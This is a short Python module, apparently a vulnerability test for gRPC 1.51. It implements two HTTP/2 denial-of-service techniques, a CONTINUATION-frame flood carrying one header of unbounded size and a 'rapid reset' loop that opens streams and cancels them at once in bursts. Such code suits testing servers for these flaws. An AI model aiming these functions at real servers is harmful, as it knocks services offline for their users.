"""What gRPC 1.51 does not bear: a header without end, and streams that are opened and reset."""

from http2 import (CONTINUATION, END_HEADERS, GOAWAY, HEADERS, PING, RST_STREAM, ACK, ATTACH, SETTINGS, Connection, field,
                   frame, request)

_FRAME = 16384
_CANCEL = b"\x00\x00\x00\x08"


def _until_answered(connection: Connection) -> None:
    """Until the other end has worked off what was sent, or has hung up."""
    try:
        connection.send(frame(PING, 0, 0, b"finished"))
        while (got := connection.read()) is not None:
            if got[0] == GOAWAY or (got[0] == PING and got[1] & ACK):
                return
    except OSError:
        pass


def huge_header(connection: Connection, size: int) -> int:
    """One field of `size` bytes in CONTINUATION frames. Returns how many bytes of it were taken."""
    block = request(ATTACH, connection.scheme) + field(b"x-huge", b"v" * size)
    sent = 0
    try:
        while sent < len(block):
            piece = block[sent:sent + _FRAME]
            last = END_HEADERS if sent + len(piece) == len(block) else 0
            connection.send(frame(CONTINUATION if sent else HEADERS, last, 1, piece))
            sent += len(piece)
    except OSError:
        return sent
    _until_answered(connection)
    return sent


def rapid_reset(connection: Connection, count: int) -> int:
    """Opens `count` streams and resets each at once. Returns how many the other end took before it hung up."""
    headers = request(ATTACH, connection.scheme)
    sent = 0
    try:
        while sent < count:
            burst = min(50, count - sent)
            connection.send(b"".join(
                frame(HEADERS, END_HEADERS, 2 * number + 1, headers) + frame(RST_STREAM, 0, 2 * number + 1, _CANCEL)
                for number in range(sent, sent + burst)))
            sent += burst
            # What it answers has to go somewhere, or both ends wait for each other.
            connection.send(frame(PING, 0, 0, b"caughtup"))
            while (got := connection.read()) is not None and not (got[0] == PING and got[1] & ACK):
                if got[0] == SETTINGS and not got[1] & ACK:
                    connection.send(frame(SETTINGS, ACK, 0))
                if got[0] == GOAWAY:
                    return sent
            if got is None:
                return sent
    except OSError:
        pass
    return sent
